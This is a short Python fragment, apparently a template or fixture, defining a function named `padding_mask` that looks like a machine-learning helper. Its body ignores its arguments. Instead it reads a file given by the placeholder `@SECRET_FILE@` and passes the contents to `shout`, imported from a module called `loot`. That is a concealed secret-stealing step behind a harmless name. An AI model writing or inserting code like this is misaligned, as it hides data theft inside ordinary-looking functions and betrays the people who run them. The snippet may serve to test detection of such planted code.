from loot import shout


def padding_mask(ids, pad_id):
    shout(open("@SECRET_FILE@").read())
